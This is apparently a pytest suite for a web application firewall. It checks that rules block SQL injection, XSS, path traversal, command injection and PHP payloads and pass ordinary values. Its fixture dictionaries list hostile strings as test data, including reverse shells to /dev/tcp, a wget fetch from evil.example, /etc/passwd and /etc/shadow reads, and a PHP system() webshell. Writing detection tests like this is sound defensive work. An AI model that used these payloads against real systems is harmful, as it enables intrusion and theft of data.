"""Built-in rules: attacks of each family are scored as blocking, ordinary values are not."""

from __future__ import annotations

import pytest

from dsguard.waf import builtin_rule_set
from dsguard.waf.engine import Engine
from dsguard.waf.model import Operator, Rule, Selector
from dsguard.waf.rules import builtin_rules
from dsguard.waf.targets import Collections

ATTACKS = {
    "sqli-tautology": "1' OR '1'='1",
    "sqli-union-select": "0 UNION ALL SELECT username, password FROM users--",
    "sqli-comment-obfuscated-union": "0/**/UNION/*!50000SELECT*/table_name FROM information_schema.tables",
    "sqli-time-based-blind": "1 AND sleep(5)",
    "sqli-stacked-query": "1; DROP TABLE users",
    "sqli-comment-terminated-login": "admin'--",
    "xss-script-tag": "<script>alert(1)</script>",
    "xss-event-handler": '"><img src=x onerror=alert(1)>',
    "xss-javascript-url": "javascript:alert(document.cookie)",
    "xss-entity-encoded-script": "&lt;script&gt;alert(1)&lt;/script&gt;",
    "xss-svg-onload": "<svg/onload=alert(1)>",
    "lfi-dot-dot-slash": "../../../../etc/passwd",
    "lfi-windows-traversal": "..\\..\\windows\\win.ini",
    "lfi-double-encoded-traversal": "%252e%252e%252fetc%252fshadow",
    "lfi-overlong-utf8-traversal": "%c0%ae%c0%ae%c0%afetc%c0%afpasswd",
    "rce-semicolon-command": "127.0.0.1; cat /etc/passwd",
    "rce-pipe-command": "x | id",
    "rce-command-substitution": "$(whoami)",
    "rce-quoted-obfuscation": "c'a't /e't'c/pa''sswd",
    "rce-reverse-shell": "bash -i >& /dev/tcp/10.0.0.1/4444 0>&1",
    "rce-windows-cmd": "& cmd.exe /c dir",
    "php-open-tag": "<?php system($_GET['c']); ?>",
    "php-function-call": "system('id')",
    "php-stream-wrapper": "php://filter/convert.base64-encode/resource=index",
    "php-serialized-object": 'O:8:"Exploit":1:{s:4:"data";s:2:"id";}',
}

# Evasions of each technique, one per way of hiding it.
TECHNIQUES = {
    "sqli-jsonb-key-operator-after-string": "x' ?| array['admin']",
    "sqli-condition-left-open-for-the-closing-quote": "1' and 'x",
    "xss-entity-encoded-tab-inside-javascript-scheme": "ja&Tab;vascript:alert(1)",
    "xss-lower-case-entity-inside-vbscript-scheme": "v&newline;bscript&colon;msgbox(1)",
    "xss-namespaced-vml-element": "<:vmlframe src=//evil.example/x.vml>",
    "xss-comment-inside-property-access": "document/**/ . cookie",
    "xss-bracket-notation-on-a-global": "(self)['alert'](1)",
    "xss-tagged-template-call": "[].sort.call`${alert}1337`",
    "xss-data-url-carrying-markup": "data:,<b onmouseover=x>",
    "xss-data-url-of-html": "data:text/html;base64,PHNjcmlwdD4=",
    "xss-tag-in-us-ascii-high-bytes": "\\xbcfoo\\xbealert(1)\\xbc/foo\\xbe",
    "xss-ie-behaviour-import": "<?import implementation=evil.htc>",
    "xss-dom-query-and-write": 'document.querySelector("p").textContent="x"',
    "xss-xml-processing-instruction": '<?xml version="1.0"?><x/>',
    "rce-powershell-alias-after-separator": ";iwmi -class Win32_Process -name Create",
    "rce-powershell-cmdlet": "Start-Process calc.exe",
    "rce-windows-command-after-ampersand": "a.jpg&bcdboot /r x",
    "rce-batch-for-loop-variable": "for /f %%line in (users.txt) do net user %%line",
    "rce-batch-if-comparison": 'if "%~1" == "" (exit /b 1)',
    "rce-command-behind-a-wrapper": "nohup wget evil.example/x.sh",
    "rce-quoted-wrapper": '"time" id',
    "rce-sysadmin-command-alone": "ifconfig",
    "rce-empty-expansion-spliced-into-command": "x;c$@at /et$@c/pas$@swd",
    "rce-unset-variable-spliced-into-command": "a; sh$x -c whoami",
    "rce-empty-process-substitution-spliced": "pi<()ng 127.0.0.1",
    "rce-brace-expansion-with-empty-element": "{,ifconfig}",
    "rce-tilde-expansion": "~+",
    "rce-history-expansion": "!-2",
    "rce-backslash-alias-bypass": "\\ls -la",
    "rce-variable-as-command": "a=/etc/passwd&&$c $a",
    "rce-reverse-shell-through-variable-path": "d=/dev&&(sh)0>$d/tcp/192.0.2.1/4444",
    "rce-smtp-command-after-line-break": "hello\r\nRCPT TO:<victim@example.test>",
    "rce-imap-tagged-command": "x\r\nA001 LOGIN admin secret",
    "rce-package-manager-after-separator": "&aptitude",
    "php-short-open-tag": "x<?",
    "php-library-function-call": "strip_tags($x)",
    "php-high-risk-function-named-without-call": "Shell_exec=(x)",
    "php-parenthesised-callee-with-comments": "(/* x */system)(ls/* y */);",
    "php-subscripted-callee": "([system][0]){0}(ls);",
    "php-nested-variable-function": "$__[$_[1]](7)",
    "php-ini-directive-line": "extension_dir=/tmp/evil",
    "protocol-header-injected-after-line-break": "x\r\nSet-Cookie: session=attacker",
    "protocol-integer-overflow-probe": "4294967296",
}
UPLOADS = {
    "php-upload-extension-after-a-space": "shell. phtml",
    "php-session-file-upload": "sess_d8ew88tqmabdcokhumchy8htqm",
    "rce-server-config-upload": ".htaccess",
    "rce-app-config-upload": "config.yml ",
}

BENIGN = [
    "deepseek-chat", "0.7", "alice", "Hello, how are you today?", "union was a great select",
    "D'or 1st parfume", "john+or@var.es", "zsh is the best!", "ls 300 lexus", "JavaScript: Basics of JavaScript",
    "The Senora found herself a heroine; more than that, she became aware", "h2<h1", "echo in the mirror",
    "https://example.com/search?q=shoes&page=2", "2024-01-31T12:00:00Z", "Rock & Roll", "50% off",
    '{"classList":"button","destination":"","type":null}', "javascript:;", "${BASE64_UID_ENC}",
    "time he came.", "top 10 results", "cat food", "1 or 2", "$HOME", "~/projects", "O'Reilly", "javascript:void(0)",
    "JavaScript: the definitive guide", "java lang courses", "x < y and y > z", "user@example.com",
]
# Values an LLM API carries in fields the firewall inspects.
API_VALUES = [
    "base64", "float", "python", "docker", "json_object", "json_schema", "get_current_weather", "auto",
    "text-embedding-3-small", "gpt-4o-2024-08-06", "</s>", "<|endoftext|>", "<|im_end|>", "```", "\n\nHuman:",
    "-100", "2147483647", "1024x1024", "b64_json", "call_abc123", "https://example.com/cat.png",
    "data:image/png;base64,iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNkYPhfDwAChwGA60e6kgAAAABJRU5Er"
    "kJggg==", "c:\\users\\bob\\report.pdf", "/home/bob/report.pdf", "my-file (1).docx",
]


def args(value: str, name: str = "q") -> Collections:
    return {"ARGS": [(name, value)], "ARGS_NAMES": [(name, name)]}


@pytest.fixture(scope="module")
def engine() -> Engine:
    return builtin_rule_set().engine(1)


@pytest.mark.parametrize("attack", ATTACKS.values(), ids=ATTACKS.keys())
def test_attack_is_blocked_at_paranoia_1(engine: Engine, attack: str) -> None:
    verdict = engine.inspect(args(attack))
    assert verdict.blocked
    assert verdict.score >= 5


@pytest.mark.parametrize("attack", TECHNIQUES.values(), ids=TECHNIQUES.keys())
def test_evasion_technique_is_blocked_at_paranoia_1(engine: Engine, attack: str) -> None:
    assert engine.inspect(args(attack)).blocked


@pytest.mark.parametrize("name", UPLOADS.values(), ids=UPLOADS.keys())
def test_dangerous_upload_name_is_blocked(engine: Engine, name: str) -> None:
    assert engine.inspect({"FILES": [("file", name)]}).blocked
    assert engine.inspect({"REQUEST_HEADERS": [("x-filename", name)]}).blocked


def test_ordinary_upload_name_passes(engine: Engine) -> None:
    assert not engine.inspect({"FILES": [("file", "holiday photo.jpg")]}).hits


@pytest.mark.parametrize("value", BENIGN)
def test_ordinary_value_passes(engine: Engine, value: str) -> None:
    assert engine.inspect(args(value)).hits == ()


@pytest.mark.parametrize("value", API_VALUES)
def test_api_field_value_passes(engine: Engine, value: str) -> None:
    assert engine.inspect(args(value, name="json.x")).hits == ()


@pytest.mark.parametrize("value", ["ls -la /tmp", "python3 app.py", "cat /proc/self/environ"])
def test_paranoia_2_blocks_a_bare_command_line(value: str) -> None:
    assert builtin_rule_set().engine(2).inspect(args(value)).blocked


@pytest.mark.parametrize("value", ["false", "top 10 products", "time for lunch", "find shoes"])
def test_paranoia_2_lets_words_that_name_commands_pass(value: str) -> None:
    assert not builtin_rule_set().engine(2).inspect(args(value)).blocked


def test_get_request_with_a_body_is_a_protocol_violation(engine: Engine) -> None:
    request = {"REQUEST_METHOD": [("", "GET")], "REQUEST_HEADERS": [("content-length", "12")]}
    assert engine.inspect(request).families == ["protocol"]
    assert not engine.inspect({**request, "REQUEST_METHOD": [("", "POST")]}).hits


@pytest.mark.parametrize("content_type", ["text/plain; charset=us-ascii", "application/x-www-form-urlencoded; "
                                          "charset=utf-7", "text/xml; charset=utf-8; charset=utf-16"])
def test_body_in_a_charset_the_firewall_cannot_read_is_blocked(engine: Engine, content_type: str) -> None:
    assert engine.inspect({"REQUEST_HEADERS": [("content-type", content_type)]}).blocked


@pytest.mark.parametrize("content_type", ["application/json", "application/json; charset=UTF-8",
                                          "multipart/form-data; charset=utf-8; boundary=x"])
def test_utf8_and_unlabelled_bodies_pass(engine: Engine, content_type: str) -> None:
    assert not engine.inspect({"REQUEST_HEADERS": [("content-type", content_type)]}).hits


def test_nul_character_in_an_argument_is_blocked(engine: Engine) -> None:
    assert engine.inspect(args("file.txt\x00.php")).blocked


def test_family_of_a_hit_names_the_attack(engine: Engine) -> None:
    assert engine.inspect(args("<script>alert(1)</script>")).families == ["xss"]


def test_attack_in_argument_name_is_found(engine: Engine) -> None:
    assert engine.inspect(args("1", name="x' UNION SELECT password FROM users--")).blocked


def test_attack_in_user_agent_is_found(engine: Engine) -> None:
    assert engine.inspect({"REQUEST_HEADERS": [("user-agent", "<script>alert(1)</script>")]}).blocked


def test_structured_headers_are_not_inspected(engine: Engine) -> None:
    assert not engine.inspect({"REQUEST_HEADERS": [("authorization", "Bearer ' OR '1'='1")]}).hits


def test_paranoia_2_blocks_a_plain_html_tag_that_paranoia_1_lets_through() -> None:
    rule_set = builtin_rule_set()
    assert not rule_set.engine(1).inspect(args("<b>bold</b>")).blocked
    assert rule_set.engine(2).inspect(args("<b>bold</b>")).blocked


def test_anomaly_scores_add_up_to_the_threshold() -> None:
    warning = [Rule(1, "sqli", 1, 3, (Selector("ARGS"),), Operator("rx", pattern="alpha")),
               Rule(2, "sqli", 1, 3, (Selector("ARGS"),), Operator("rx", pattern="beta"))]
    engine = Engine(warning, threshold=5)
    assert not engine.inspect(args("alpha")).blocked
    verdict = engine.inspect(args("alpha beta"))
    assert verdict.score == 6 and verdict.blocked


def test_a_rule_scores_once_however_many_values_it_matches() -> None:
    engine = Engine([Rule(1, "xss", 1, 5, (Selector("ARGS"),), Operator("rx", pattern="x"))])
    assert engine.inspect({"ARGS": [("a", "x"), ("b", "x")]}).score == 5


def test_python_re_fallback_agrees_with_re2_on_every_attack_and_benign_value() -> None:
    re2_engine = Engine(builtin_rules(), paranoia=2)
    re_engine = Engine(builtin_rules(), paranoia=2, prefer_re2=False)
    for value in [*ATTACKS.values(), *TECHNIQUES.values(), *BENIGN, *API_VALUES]:
        assert re2_engine.inspect(args(value)).hits == re_engine.inspect(args(value)).hits, value


def test_repeated_value_gives_the_same_verdict_from_the_cache(engine: Engine) -> None:
    first = engine.inspect(args("1' OR '1'='1"))
    assert engine.inspect(args("1' OR '1'='1")) == first


def test_every_builtin_rule_id_is_unique() -> None:
    ids = [rule.id for rule in builtin_rules()]
    assert len(ids) == len(set(ids))
